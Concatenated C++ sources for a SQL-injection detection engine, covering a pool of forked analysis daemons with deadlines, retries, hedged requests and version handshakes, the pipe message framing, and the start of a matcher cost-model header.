    auto acked = entry.client->AddFragmentsAt(pending, target, deadline);
    if (!acked.ok()) {
      supervisor_.RecordCrash();
      Discard(std::move(entry));
      return acked.status();
    }
    if (acked.value() != target) {
      {
        std::lock_guard<std::mutex> relock(mu_);
        ++stats_.version_mismatches;
      }
      supervisor_.RecordCrash();
      Discard(std::move(entry));
      return Status::Internal("stale daemon: update ack version mismatch");
    }
  }
  return entry;
}

void DaemonPool::Return(Entry entry) {
  entry.last_used = std::chrono::steady_clock::now();
  std::unique_lock<std::mutex> lock(mu_);
  if (shutdown_) {
    --live_;
    lock.unlock();
    cv_.notify_all();
    return;  // entry destructor shuts the daemon down
  }
  idle_.push_back(std::move(entry));
  lock.unlock();
  cv_.notify_one();
  ReapIdle();
}

void DaemonPool::Discard(Entry entry) {
  // SIGKILL, no handshake: a hung daemon would stall the graceful shutdown
  // for its full 500 ms bound — and a dead one cannot answer anyway.
  if (entry.client) entry.client->Kill();
  {
    std::lock_guard<std::mutex> lock(mu_);
    --live_;
    ++stats_.replaced;
  }
  cv_.notify_all();  // blocked checkouts (or Shutdown) may proceed
}

StatusOr<PtiVerdictWire> DaemonPool::AttemptOnce(std::string_view query,
                                                 util::Deadline deadline,
                                                 bool hedged) {
  const auto start = std::chrono::steady_clock::now();
  auto entry = Checkout(deadline);
  if (!entry.ok()) {
    if (entry.status().code() == StatusCode::kDeadlineExceeded) {
      std::lock_guard<std::mutex> lock(mu_);
      ++stats_.deadline_misses;
    }
    return entry.status();
  }
  if (hedged && resilience::FaultInjector::Global().ShouldFire(
                    resilience::FaultPoint::kHedgeLoss)) {
    // The secondary loses its race without touching the daemon: the entry
    // goes straight back so the injected loss costs no capacity.
    Return(std::move(entry).value());
    return Status::Unavailable("injected hedge-race loss");
  }
  auto wire = entry->client->Analyze(query, deadline);
  if (wire.ok()) {
    latency_.Record(std::chrono::duration_cast<std::chrono::microseconds>(
        std::chrono::steady_clock::now() - start));
    retry_budget_.RecordSuccess();
    {
      std::lock_guard<std::mutex> lock(mu_);
      ++stats_.analyzed;
    }
    Return(std::move(entry).value());
    return wire;
  }
  if (wire.status().code() == StatusCode::kDeadlineExceeded) {
    std::lock_guard<std::mutex> lock(mu_);
    ++stats_.deadline_misses;
  }
  // The daemon died or hung mid-flight: kill it and free its slot; the
  // supervisor decides whether a replacement may spawn.
  supervisor_.RecordCrash();
  Discard(std::move(entry).value());
  return wire.status();
}

StatusOr<PtiVerdictWire> DaemonPool::AnalyzeSequential(std::string_view query,
                                                       util::Deadline deadline) {
  Status last = Status::Unavailable("PTI daemon unreachable after retry");
  for (int attempt = 0; attempt < 2; ++attempt) {
    // Retries spend from the budget; when it is drained (an outage — every
    // request failing and retrying) the tier degrades to single attempts.
    if (attempt > 0 && !retry_budget_.TrySpend()) break;
    // Each attempt gets at most per_call_timeout; the retry runs on
    // whatever remains of the caller's budget.
    util::Deadline attempt_deadline = deadline;
    if (options_.per_call_timeout.count() > 0) {
      attempt_deadline = util::Deadline::EarlierOf(
          deadline, util::Deadline::After(options_.per_call_timeout));
    }
    if (attempt_deadline.expired()) {
      last = Status::DeadlineExceeded("PTI deadline budget exhausted");
      break;
    }
    auto wire = AttemptOnce(query, attempt_deadline, /*hedged=*/false);
    if (wire.ok()) return wire;
    last = wire.status();
    // A quarantined shard fails every attempt by design — do not burn the
    // retry budget confirming it.
    if (last.code() == StatusCode::kUnavailable &&
        last.message().find("quarantin") != std::string::npos) {
      break;
    }
  }
  std::lock_guard<std::mutex> lock(mu_);
  ++stats_.failures;
  return last;
}

StatusOr<PtiVerdictWire> DaemonPool::AnalyzeHedged(std::string_view query,
                                                   util::Deadline deadline) {
  struct Race {
    std::mutex mu;
    std::condition_variable cv;
    std::optional<StatusOr<PtiVerdictWire>> primary;
    std::optional<StatusOr<PtiVerdictWire>> hedge;
    bool hedge_launched = false;
  };
  auto race = std::make_shared<Race>();
  const std::string q(query);  // the detached attempt threads outlive us

  auto bounded = [this](util::Deadline d) {
    if (options_.per_call_timeout.count() > 0) {
      return util::Deadline::EarlierOf(
          d, util::Deadline::After(options_.per_call_timeout));
    }
    return d;
  };

  // The primary runs in a helper thread so this thread can arm the hedge
  // while it is still in flight. Each attempt thread carries its own
  // in-flight mark (taken before launch), so Shutdown waits for it even
  // after this call returns with the other attempt's result.
  {
    std::lock_guard<std::mutex> lock(mu_);
    if (shutdown_) return Status::Unavailable("daemon pool is shut down");
    ++in_flight_;
  }
  const util::Deadline primary_deadline = bounded(deadline);
  std::thread([this, race, q, primary_deadline] {
    InFlight flight(this);
    auto result = AttemptOnce(q, primary_deadline, /*hedged=*/false);
    {
      std::lock_guard<std::mutex> lock(race->mu);
      race->primary.emplace(std::move(result));
    }
    race->cv.notify_all();
  }).detach();

  // Wait out the hedge delay; a primary still in flight after it is a
  // straggler worth racing — if the budget allows.
  std::unique_lock<std::mutex> rlock(race->mu);
  const bool straggling = !race->cv.wait_for(
      rlock, HedgeDelay(), [&] { return race->primary.has_value(); });
  if (straggling) {
    rlock.unlock();
    bool launch = retry_budget_.TrySpend();
    if (launch) {
      std::lock_guard<std::mutex> lock(mu_);
      if (shutdown_) {
        launch = false;
      } else {
        ++in_flight_;
        ++stats_.hedges_launched;
      }
    }
    if (launch) {
      {
        std::lock_guard<std::mutex> hl(race->mu);
        race->hedge_launched = true;
      }
      const util::Deadline hedge_deadline = bounded(deadline);
      std::thread([this, race, q, hedge_deadline] {
        InFlight flight(this);
        auto result = AttemptOnce(q, hedge_deadline, /*hedged=*/true);
        {
          std::lock_guard<std::mutex> lock(race->mu);
          race->hedge.emplace(std::move(result));
        }
        race->cv.notify_all();
      }).detach();
    }
    rlock.lock();
  }

  // First success wins; otherwise wait for every launched attempt (their
  // bounded deadlines guarantee this terminates).
  race->cv.wait(rlock, [&] {
    if (race->primary && race->primary->ok()) return true;
    if (race->hedge && race->hedge->ok()) return true;
    return race->primary.has_value() &&
           (!race->hedge_launched || race->hedge.has_value());
  });
  const bool primary_ok = race->primary && race->primary->ok();
  const bool hedge_ok = race->hedge && race->hedge->ok();
  if (primary_ok) return *race->primary;
  if (hedge_ok) {
    {
      std::lock_guard<std::mutex> lock(mu_);
      ++stats_.hedges_won;
    }
    return *race->hedge;
  }
  {
    std::lock_guard<std::mutex> lock(mu_);
    ++stats_.failures;
  }
  return race->primary ? race->primary->status()
                       : Status::Unavailable("hedged analyze failed");
}

std::chrono::milliseconds DaemonPool::HedgeDelay() const {
  if (!options_.hedge_from_p99) return options_.hedge_delay;
  std::chrono::milliseconds fallback = options_.hedge_delay;
  if (fallback.count() <= 0) {
    fallback = options_.per_call_timeout.count() > 0
                   ? options_.per_call_timeout / 2
                   : std::chrono::milliseconds(100);
  }
  const auto p99 = latency_.Quantile(
      0.99, std::chrono::duration_cast<std::chrono::microseconds>(fallback));
  const auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(p99);
  return std::max(ms, std::chrono::milliseconds(1));
}

StatusOr<PtiVerdictWire> DaemonPool::Analyze(std::string_view query,
                                             util::Deadline deadline) {
  {
    std::lock_guard<std::mutex> lock(mu_);
    if (shutdown_) return Status::Unavailable("daemon pool is shut down");
    ++in_flight_;
  }
  InFlight flight(this);
  if (hedging_enabled()) return AnalyzeHedged(query, deadline);
  return AnalyzeSequential(query, deadline);
}

Status DaemonPool::Ping(util::Deadline deadline) {
  {
    std::lock_guard<std::mutex> lock(mu_);
    if (shutdown_) return Status::Unavailable("daemon pool is shut down");
    ++in_flight_;
  }
  InFlight flight(this);
  auto entry = Checkout(deadline);
  if (!entry.ok()) return entry.status();
  Status st = entry->client->Ping(deadline);
  if (st.ok()) {
    Return(std::move(entry).value());
  } else {
    supervisor_.RecordCrash();
    Discard(std::move(entry).value());
  }
  return st;
}

Status DaemonPool::AddFragments(
    const std::vector<std::string>& fragment_texts) {
  std::lock_guard<std::mutex> lock(mu_);
  if (shutdown_) return Status::Unavailable("daemon pool is shut down");
  for (const std::string& f : fragment_texts) {
    fragments_.AddRaw(f);
    added_texts_.push_back(f);
  }
  // Idle daemons pick the delta up at their next checkout (lazy broadcast);
  // nothing round-trips while the lock is held.
  return Status::Ok();
}

core::PtiFn DaemonPool::AsPtiBackend() {
  return [this](std::string_view query, const std::vector<sql::Token>& tokens,
                util::Deadline deadline) -> StatusOr<pti::PtiResult> {
    auto wire = Analyze(query, deadline);
    if (!wire.ok()) {
      // No verdict: surface the error — the engine's breaker/degraded
      // policy decides (fail closed by default).
      return wire.status();
    }
    pti::PtiResult result;
    result.attack_detected = wire->attack_detected;
    result.hits = wire->hits;
    result.fragments_scanned = wire->fragments_scanned;
    result.ruleset_version = wire->ruleset_version;
    if (wire->attack_detected) {
      for (const sql::Token& t : tokens) {
        for (const std::string& text : wire->untrusted_texts) {
          if (t.IsCritical() && t.text == text) {
            result.untrusted_critical_tokens.push_back(t);
            break;
          }
        }
      }
    }
    return result;
  };
}

void DaemonPool::ReapIdle() {
  std::vector<Entry> victims;
  {
    std::lock_guard<std::mutex> lock(mu_);
    const auto now = std::chrono::steady_clock::now();
    // Oldest entries sit at the front of the LIFO stack.
    while (live_ > options_.min_size && !idle_.empty() &&
           now - idle_.front().last_used > options_.idle_timeout) {
      victims.push_back(std::move(idle_.front()));
      idle_.erase(idle_.begin());
      --live_;
      ++stats_.reaped;
    }
  }
  victims.clear();  // daemon shutdowns happen outside the lock
}

void DaemonPool::Shutdown() {
  std::vector<Entry> victims;
  {
    std::unique_lock<std::mutex> lock(mu_);
    if (shutdown_ && live_ == 0 && in_flight_ == 0) return;
    shutdown_ = true;
    victims = std::move(idle_);
    idle_.clear();
    live_ -= victims.size();
    cv_.notify_all();
    // Checked-out daemons drain through Return/Discard (which decrement
    // live_ under shutdown_) and the calls themselves drain through the
    // InFlight guards; their bounded deadlines guarantee progress. Waiting
    // for both means no racing thread (including detached hedge attempts)
    // can still touch pool state after Shutdown returns, so destruction is
    // safe.
    cv_.wait(lock, [&] { return live_ == 0 && in_flight_ == 0; });
  }
  victims.clear();
}

DaemonPool::PoolStats DaemonPool::stats() const {
  PoolStats out;
  {
    std::lock_guard<std::mutex> lock(mu_);
    out = stats_;
    out.target_version = options_.base_version + added_texts_.size();
  }
  out.retries_denied = retry_budget_.denied();
  out.supervisor = supervisor_.stats();
  return out;
}

std::uint64_t DaemonPool::target_version() const {
  std::lock_guard<std::mutex> lock(mu_);
  return options_.base_version + added_texts_.size();
}

php::FragmentSet DaemonPool::fragment_snapshot() const {
  std::lock_guard<std::mutex> lock(mu_);
  return fragments_;
}

std::vector<std::uint64_t> DaemonPool::idle_versions() const {
  std::lock_guard<std::mutex> lock(mu_);
  std::vector<std::uint64_t> versions;
  versions.reserve(idle_.size());
  for (const Entry& e : idle_) {
    versions.push_back(options_.base_version + e.fragments_applied);
  }
  return versions;
}

std::size_t DaemonPool::live() const {
  std::lock_guard<std::mutex> lock(mu_);
  return live_;
}

std::size_t DaemonPool::idle() const {
  std::lock_guard<std::mutex> lock(mu_);
  return idle_.size();
}

std::vector<int> DaemonPool::child_pids() const {
  std::lock_guard<std::mutex> lock(mu_);
  std::vector<int> pids;
  pids.reserve(idle_.size());
  for (const Entry& e : idle_) pids.push_back(e.client->child_pid());
  return pids;
}

}  // namespace joza::ipc
