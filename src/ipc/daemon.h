// PTI daemon: server loop and client (Section IV-C1).
//
// The daemon is a native process holding the fragment automaton in memory.
// The application launches it on demand and talks to it over anonymous
// pipes. Two lifetimes exist, matching the paper:
//   * spawn-per-request — a fresh daemon per analysis (the "unoptimized"
//     tier of Figure 7: the child rebuilds the fragment index every time);
//   * persistent — one long-lived daemon reused across requests (the
//     optimized tier).
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "core/joza.h"
#include "ipc/framing.h"
#include "phpsrc/fragments.h"
#include "pti/pti.h"
#include "util/status.h"

namespace joza::ipc {

// Runs the daemon side: reads frames from `read_fd`, answers on
// `write_fd`, until Shutdown or EOF. Returns the number of queries served.
// `fragments` seeds the analyzer at ruleset version `initial_version`;
// kAddFragments frames (FragmentUpdate payloads) extend it and move the
// version to the one each update names. Pong and Ack payloads carry the
// current version (EncodeU64) so the client can prove convergence, and
// every analyze verdict is stamped with the version it was computed under.
// Honours the daemon-hang / daemon-kill fault-injection points (inherited
// across fork) so chaos tests can stall or crash daemons mid-request.
std::size_t ServePtiDaemon(int read_fd, int write_fd,
                           php::FragmentSet fragments,
                           pti::PtiConfig config = {},
                           std::uint64_t initial_version = 0);

class DaemonClient {
 public:
  enum class Mode {
    kPersistent,       // fork once, reuse across Analyze calls
    kSpawnPerRequest,  // fork + index build per Analyze call
  };

  // The client owns a copy of the fragment texts so spawned children can
  // rebuild the analyzer (models the daemon loading fragments at startup).
  // `initial_version` is the ruleset version those fragments correspond to
  // (the pool's update-log position at spawn time).
  DaemonClient(Mode mode, php::FragmentSet fragments,
               pti::PtiConfig config = {}, std::uint64_t initial_version = 0);
  ~DaemonClient();

  DaemonClient(const DaemonClient&) = delete;
  DaemonClient& operator=(const DaemonClient&) = delete;

  Mode mode() const { return mode_; }

  // Pid of the live daemon child, or -1 before the first spawn / after
  // Shutdown. The pool uses it for health accounting; tests use it to kill
  // daemons and exercise fail-closed replacement.
  int child_pid() const { return child_pid_; }

  // Round-trips one query through the daemon. A finite deadline bounds the
  // whole round trip; a miss leaves the stream desynchronized, so the
  // caller must Kill() and discard this client (a hung daemon is
  // indistinguishable from a dead one on the request path).
  StatusOr<PtiVerdictWire> Analyze(std::string_view query,
                                   util::Deadline deadline = util::Deadline());

  // Health check round trip.
  Status Ping(util::Deadline deadline = util::Deadline());

  // Version handshake: pings the daemon and returns the ruleset version it
  // reports (the Pong payload). A daemon answering with a version other
  // than ruleset_version() is stale and should be replaced.
  StatusOr<std::uint64_t> Handshake(util::Deadline deadline = util::Deadline());

  // The ruleset version this client believes the daemon is at (bumped by
  // one per fragment text shipped, matching the pool's update log).
  std::uint64_t ruleset_version() const { return version_; }

  // Ships additional fragments to the (persistent) daemon; each text bumps
  // the version by one.
  Status AddFragments(const std::vector<std::string>& fragment_texts,
                      util::Deadline deadline = util::Deadline());

  // Same, naming the exact version the daemon must land on. Returns the
  // version the daemon acked; a value != target_version means the daemon
  // diverged (stale replica) and must be discarded.
  StatusOr<std::uint64_t> AddFragmentsAt(
      const std::vector<std::string>& fragment_texts,
      std::uint64_t target_version,
      util::Deadline deadline = util::Deadline());

  // Stops the persistent daemon (no-op for spawn-per-request). The
  // handshake is time-bounded; an unresponsive daemon is killed instead.
  void Shutdown();

  // SIGKILLs the daemon and reaps it without any handshake — for daemons
  // that missed a deadline (hung) or broke the protocol.
  void Kill();

  // Adapts this client as a Joza PTI backend. The wire verdict carries no
  // token spans, so the adapter re-derives `untrusted_critical_tokens`
  // length only; detection semantics are identical. RPC failures surface
  // as error Status — the engine's degraded-mode policy decides what a
  // missing verdict means (fail closed by default).
  core::PtiFn AsPtiBackend();

 private:
  Status EnsureSpawned();
  StatusOr<Frame> RoundTrip(const Frame& request, util::Deadline deadline);
  Status SpawnChild(Fd& to_child_w, Fd& from_child_r);

  Mode mode_;
  php::FragmentSet fragments_;
  pti::PtiConfig config_;
  std::uint64_t version_ = 0;  // ruleset version fragments_ corresponds to
  Fd to_daemon_;    // parent writes requests
  Fd from_daemon_;  // parent reads responses
  int child_pid_ = -1;
};

}  // namespace joza::ipc
