#include "ipc/daemon.h"

#include <csignal>
#include <sys/wait.h>
#include <thread>
#include <unistd.h>

#include "resilience/injector.h"
#include "sqlparse/lexer.h"

namespace joza::ipc {

std::size_t ServePtiDaemon(int read_fd, int write_fd,
                           php::FragmentSet fragments,
                           pti::PtiConfig config,
                           std::uint64_t initial_version) {
  pti::PtiAnalyzer analyzer(std::move(fragments), config);
  // The analyzer's own snapshot starts at 0; the daemon's externally
  // visible version is the update-log position the client seeded it with.
  std::uint64_t version = initial_version;
  std::size_t served = 0;
  for (;;) {
    auto frame = ReadFrame(read_fd);
    if (!frame.ok()) break;  // EOF or broken pipe: the app went away
    switch (frame->type) {
      case MessageType::kPing:
        // Version handshake: the Pong carries the daemon's current ruleset
        // version so the client can detect a stale replica.
        if (!WriteFrame(write_fd, {MessageType::kPong, EncodeU64(version)})
                 .ok()) {
          return served;
        }
        break;
      case MessageType::kAnalyzeRequest: {
        auto& injector = resilience::FaultInjector::Global();
        if (injector.ShouldFire(resilience::FaultPoint::kDaemonKill)) {
          ::_exit(3);  // crash mid-request: the client sees EOF
        }
        if (injector.ShouldFire(resilience::FaultPoint::kDaemonHang)) {
          // Stall without answering; the client's deadline machinery must
          // kill and replace this daemon.
          std::this_thread::sleep_for(injector.hang());
        }
        const std::string& query = frame->payload;
        pti::PtiResult r = analyzer.Analyze(query);
        PtiVerdictWire wire;
        wire.attack_detected = r.attack_detected;
        wire.untrusted_critical_tokens =
            static_cast<std::uint32_t>(r.untrusted_critical_tokens.size());
        wire.hits = static_cast<std::uint32_t>(r.hits);
        wire.fragments_scanned =
            static_cast<std::uint32_t>(r.fragments_scanned);
        wire.ruleset_version = version;
        for (const auto& t : r.untrusted_critical_tokens) {
          wire.untrusted_texts.emplace_back(t.text);
        }
        ++served;
        if (!WriteFrame(write_fd,
                        {MessageType::kAnalyzeResponse, EncodeVerdict(wire)})
                 .ok()) {
          return served;
        }
        break;
      }
      case MessageType::kAddFragments: {
        auto update = DecodeFragmentUpdate(frame->payload);
        if (!update.ok()) {
          WriteFrame(write_fd,
                     {MessageType::kError, update.status().message()});
          break;
        }
        // Raw fragments arrive pre-extracted; one successor snapshot is
        // built, stamped with the version the update names, and the Ack
        // echoes it so the client can verify convergence.
        analyzer.AddRawFragments(update->fragments, update->version);
        version = update->version;
        WriteFrame(write_fd, {MessageType::kAck, EncodeU64(version)});
        break;
      }
      case MessageType::kShutdown:
        WriteFrame(write_fd, {MessageType::kAck, EncodeU64(version)});
        return served;
      default:
        WriteFrame(write_fd, {MessageType::kError, "unexpected message type"});
        break;
    }
  }
  return served;
}

DaemonClient::DaemonClient(Mode mode, php::FragmentSet fragments,
                           pti::PtiConfig config,
                           std::uint64_t initial_version)
    : mode_(mode),
      fragments_(std::move(fragments)),
      config_(config),
      version_(initial_version) {}

DaemonClient::~DaemonClient() { Shutdown(); }

Status DaemonClient::SpawnChild(Fd& to_child_w, Fd& from_child_r) {
  if (resilience::FaultInjector::Global().ShouldFire(
          resilience::FaultPoint::kSpawnFail)) {
    return Status::Unavailable("injected spawn failure");
  }
  auto req_pipe = MakePipe();  // parent -> child
  if (!req_pipe.ok()) return req_pipe.status();
  auto resp_pipe = MakePipe();  // child -> parent
  if (!resp_pipe.ok()) return resp_pipe.status();

  pid_t pid = ::fork();
  if (pid < 0) return Status::Internal("fork() failed");
  if (pid == 0) {
    // Child: the daemon. Close the parent-side ends, serve, exit.
    req_pipe->second.Close();
    resp_pipe->first.Close();
    ServePtiDaemon(req_pipe->first.get(), resp_pipe->second.get(), fragments_,
                   config_, version_);
    ::_exit(0);
  }
  // Parent. Non-blocking ends so deadline-bounded I/O can never stall
  // inside a syscall (the child keeps plain blocking pipes).
  req_pipe->first.Close();
  resp_pipe->second.Close();
  to_child_w = std::move(req_pipe->second);
  from_child_r = std::move(resp_pipe->first);
  SetNonBlocking(to_child_w.get(), true);
  SetNonBlocking(from_child_r.get(), true);
  child_pid_ = pid;
  return Status::Ok();
}

Status DaemonClient::EnsureSpawned() {
  if (to_daemon_.valid()) return Status::Ok();
  return SpawnChild(to_daemon_, from_daemon_);
}

StatusOr<Frame> DaemonClient::RoundTrip(const Frame& request,
                                        util::Deadline deadline) {
  if (mode_ == Mode::kSpawnPerRequest) {
    // Fresh daemon for this one request: its index build cost lands in the
    // round-trip latency, exactly like the paper's unoptimized tier.
    Fd w, r;
    if (auto st = SpawnChild(w, r); !st.ok()) return st;
    auto respond = [&]() -> StatusOr<Frame> {
      if (auto st = WriteFrame(w.get(), request, deadline); !st.ok()) {
        return st;
      }
      return ReadFrame(r.get(), 64u << 20, deadline);
    };
    auto response = respond();
    w.Close();  // EOF lets the child exit
    if (!response.ok() &&
        response.status().code() == StatusCode::kDeadlineExceeded) {
      ::kill(child_pid_, SIGKILL);  // a hung one-shot child never exits
    }
    int status = 0;
    ::waitpid(child_pid_, &status, 0);
    child_pid_ = -1;
    return response;
  }
  if (auto st = EnsureSpawned(); !st.ok()) return st;
  if (auto st = WriteFrame(to_daemon_.get(), request, deadline); !st.ok()) {
    return st;
  }
  return ReadFrame(from_daemon_.get(), 64u << 20, deadline);
}

StatusOr<PtiVerdictWire> DaemonClient::Analyze(std::string_view query,
                                               util::Deadline deadline) {
  auto response = RoundTrip(
      Frame{MessageType::kAnalyzeRequest, std::string(query)}, deadline);
  if (!response.ok()) return response.status();
  if (response->type != MessageType::kAnalyzeResponse) {
    return Status::Internal("daemon returned unexpected frame type");
  }
  return DecodeVerdict(response->payload);
}

Status DaemonClient::Ping(util::Deadline deadline) {
  auto version = Handshake(deadline);
  return version.ok() ? Status::Ok() : version.status();
}

StatusOr<std::uint64_t> DaemonClient::Handshake(util::Deadline deadline) {
  auto response = RoundTrip(Frame{MessageType::kPing, ""}, deadline);
  if (!response.ok()) return response.status();
  if (response->type != MessageType::kPong) {
    return Status::Internal("daemon returned unexpected frame type");
  }
  return DecodeU64(response->payload);
}

Status DaemonClient::AddFragments(
    const std::vector<std::string>& fragment_texts, util::Deadline deadline) {
  auto acked =
      AddFragmentsAt(fragment_texts, version_ + fragment_texts.size(),
                     deadline);
  return acked.ok() ? Status::Ok() : acked.status();
}

StatusOr<std::uint64_t> DaemonClient::AddFragmentsAt(
    const std::vector<std::string>& fragment_texts,
    std::uint64_t target_version, util::Deadline deadline) {
  for (const std::string& f : fragment_texts) fragments_.AddRaw(f);
  version_ = target_version;
  if (mode_ == Mode::kSpawnPerRequest || !to_daemon_.valid()) {
    return target_version;  // next spawn starts at this version
  }
  FragmentUpdate update;
  update.version = target_version;
  update.fragments = fragment_texts;
  auto response = RoundTrip(
      Frame{MessageType::kAddFragments, EncodeFragmentUpdate(update)},
      deadline);
  if (!response.ok()) return response.status();
  if (response->type != MessageType::kAck) {
    return Status::Internal("daemon rejected fragment update");
  }
  return DecodeU64(response->payload);
}

void DaemonClient::Shutdown() {
  bool handshake_ok = true;
  if (to_daemon_.valid()) {
    // Bounded handshake: a hung daemon must not turn shutdown into a hang.
    const auto deadline =
        util::Deadline::After(std::chrono::milliseconds(500));
    handshake_ok =
        WriteFrame(to_daemon_.get(), Frame{MessageType::kShutdown, ""},
                   deadline)
            .ok() &&
        ReadFrame(from_daemon_.get(), 64u << 20, deadline).ok();
    to_daemon_.Close();
    from_daemon_.Close();
  }
  if (child_pid_ > 0) {
    if (!handshake_ok) ::kill(child_pid_, SIGKILL);
    int status = 0;
    ::waitpid(child_pid_, &status, 0);
    child_pid_ = -1;
  }
}

void DaemonClient::Kill() {
  to_daemon_.Close();
  from_daemon_.Close();
  if (child_pid_ > 0) {
    ::kill(child_pid_, SIGKILL);
    int status = 0;
    ::waitpid(child_pid_, &status, 0);
    child_pid_ = -1;
  }
}

core::PtiFn DaemonClient::AsPtiBackend() {
  return [this](std::string_view query, const std::vector<sql::Token>& tokens,
                util::Deadline deadline) -> StatusOr<pti::PtiResult> {
    auto wire = Analyze(query, deadline);
    if (!wire.ok()) {
      // No verdict. Whether the daemon hung (deadline miss, pipe now
      // desynchronized) or died, the client is unusable: kill what is left
      // so the next call spawns a fresh daemon instead of reusing a broken
      // stream. The engine's degraded-mode policy decides what the missing
      // verdict means (fail closed by default).
      Kill();
      return wire.status();
    }
    pti::PtiResult result;
    result.attack_detected = wire->attack_detected;
    result.hits = wire->hits;
    result.fragments_scanned = wire->fragments_scanned;
    result.ruleset_version = wire->ruleset_version;
    // Recover token metadata locally for diagnostics.
    if (wire->attack_detected) {
      for (const sql::Token& t : tokens) {
        for (const std::string& text : wire->untrusted_texts) {
          if (t.IsCritical() && t.text == text) {
            result.untrusted_critical_tokens.push_back(t);
            break;
          }
        }
      }
    }
    return result;
  };
}

}  // namespace joza::ipc
