// Length-prefixed message framing over POSIX pipe file descriptors.
//
// The PTI daemon is a separate native process that communicates with the
// web application over named or anonymous pipes (Section IV-C1). Frames
// are: u32 little-endian payload length, u8 message type, payload bytes.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "util/deadline.h"
#include "util/status.h"

namespace joza::ipc {

enum class MessageType : std::uint8_t {
  kPing = 0,
  kPong = 1,
  kAnalyzeRequest = 2,   // payload: query text
  kAnalyzeResponse = 3,  // payload: serialized PtiVerdictWire
  kAddFragments = 4,     // payload: serialized FragmentUpdate
  kAck = 5,
  kShutdown = 6,
  kError = 7,            // payload: error message
};

struct Frame {
  MessageType type = MessageType::kPing;
  std::string payload;
};

// RAII file descriptor.
class Fd {
 public:
  Fd() = default;
  explicit Fd(int fd) : fd_(fd) {}
  ~Fd() { Close(); }
  Fd(Fd&& other) noexcept : fd_(other.fd_) { other.fd_ = -1; }
  Fd& operator=(Fd&& other) noexcept;
  Fd(const Fd&) = delete;
  Fd& operator=(const Fd&) = delete;

  int get() const { return fd_; }
  bool valid() const { return fd_ >= 0; }
  void Close();
  // Releases ownership without closing.
  int Release();

 private:
  int fd_ = -1;
};

// Creates a unidirectional pipe; [0] is the read end, [1] the write end.
StatusOr<std::pair<Fd, Fd>> MakePipe();

// Toggles O_NONBLOCK. Deadline-bounded writes need a non-blocking fd: a
// blocking pipe write can stall inside the kernel past any deadline.
Status SetNonBlocking(int fd, bool enabled);

// Full-frame write/read with EINTR handling, bounded by `deadline`
// (poll(2)-based; the default infinite deadline preserves fully blocking
// behaviour). A deadline miss returns kDeadlineExceeded with the transfer
// abandoned mid-frame — the stream is unusable afterwards and the peer
// must be discarded, exactly like a dead daemon. ReadFrame returns
// NotFound on clean EOF (peer closed before any byte of a frame) and
// InvalidArgument for frames whose declared length exceeds `max_payload`
// (nothing is allocated for oversized declarations).
Status WriteFrame(int fd, const Frame& frame,
                  util::Deadline deadline = util::Deadline());
StatusOr<Frame> ReadFrame(int fd, std::size_t max_payload = 64u << 20,
                          util::Deadline deadline = util::Deadline());

// --- Wire encodings ---------------------------------------------------------

// Subset of pti::PtiResult that crosses the pipe.
struct PtiVerdictWire {
  bool attack_detected = false;
  std::uint32_t untrusted_critical_tokens = 0;
  std::uint32_t hits = 0;
  std::uint32_t fragments_scanned = 0;
  // Version of the fragment vocabulary the daemon judged the query under;
  // lets the client detect a verdict computed against a stale ruleset.
  std::uint64_t ruleset_version = 0;
  // Texts of untrusted critical tokens, for diagnostics.
  std::vector<std::string> untrusted_texts;
};

std::string EncodeVerdict(const PtiVerdictWire& verdict);
StatusOr<PtiVerdictWire> DecodeVerdict(std::string_view payload);

std::string EncodeStringList(const std::vector<std::string>& strings);
StatusOr<std::vector<std::string>> DecodeStringList(std::string_view payload);

// Versioned fragment broadcast (kAddFragments payload): the raw fragment
// texts plus the vocabulary version the receiver must land on after
// applying them. Client and daemon therefore agree on the version by
// construction, and the kAck echo proves convergence.
struct FragmentUpdate {
  std::uint64_t version = 0;
  std::vector<std::string> fragments;
};

std::string EncodeFragmentUpdate(const FragmentUpdate& update);
StatusOr<FragmentUpdate> DecodeFragmentUpdate(std::string_view payload);

// Bare u64 payload, used by kPong and kAck to report the daemon's current
// ruleset version (the version handshake).
std::string EncodeU64(std::uint64_t v);
StatusOr<std::uint64_t> DecodeU64(std::string_view payload);

}  // namespace joza::ipc
