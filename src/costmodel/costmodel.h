// Measured cost model for matcher strategy selection.
//
// Every tier/strategy decision in the staged matcher used to ride
// hand-tuned magic numbers (automaton amortization, multi-pattern input
// floors, batch-admission cutoffs) scattered across nti, pti and the
// gateway. This subsystem replaces them with one measured model: a
// calibration sweep (calibrate.h) times each matcher stage over an
// input-count x pattern-length x threshold x vocabulary-size grid, fits a
// linear cost curve per stage, and persists the result as a checksummed
// JZCM01 artifact (codec.h). The Planner (planner.h) is the single
// decision API every layer consults; without a model it reproduces the
// legacy hand-tuned heuristics bit-for-bit, so a missing or corrupt
// artifact fails closed to known-good behavior — never to a garbage model.
#pragma once

#include <cstddef>
#include <cstdint>

#include "util/status.h"

namespace joza::costmodel {

// The individually measurable stages of the staged NTI/PTI matcher. The
// feature each curve is fit over ("bytes") is stage-specific:
//
//   kAcBuild      total pattern bytes added to the automaton
//   kAcScan       scanned text bytes (query length)
//   kFind         haystack bytes (query length) per std::string::find
//   kQgramBuild   indexed text bytes
//   kQgramReject  probed input bytes
//   kMyers        query bytes streamed through the bit-parallel kernel
//   kSellers      DP cell count (query bytes x input bytes)
enum class Stage {
  kAcBuild = 0,
  kAcScan,
  kFind,
  kQgramBuild,
  kQgramReject,
  kMyers,
  kSellers,
};

inline constexpr std::size_t kStageCount = 7;

const char* StageName(Stage stage);

// Per-stage linear cost curve: predicted nanoseconds for a workload of
// `bytes` feature bytes. Least-squares over simple feature products is
// enough — every stage above is linear in its feature by construction.
struct StageCurve {
  double base_ns = 0.0;      // fixed per-call overhead
  double per_byte_ns = 0.0;  // marginal cost per feature byte

  double Eval(double bytes) const { return base_ns + per_byte_ns * bytes; }
};

struct CostModel {
  StageCurve stages[kStageCount];
  // How many timed samples the fit consumed (provenance; 0 = handcrafted).
  std::uint64_t calibration_samples = 0;

  const StageCurve& curve(Stage stage) const {
    return stages[static_cast<std::size_t>(stage)];
  }
  StageCurve& curve(Stage stage) {
    return stages[static_cast<std::size_t>(stage)];
  }
};

// Coefficients above this are implausible on any hardware this decade and
// mark a corrupt or adversarial artifact (a correctly-checksummed file can
// still carry garbage if it was written by a buggy or hostile producer).
inline constexpr double kMaxPlausibleNs = 1e9;

// Rejects NaN/inf, negative and implausibly large coefficients. Both the
// codec loader and the calibrator run every model through this before it
// can reach a Planner.
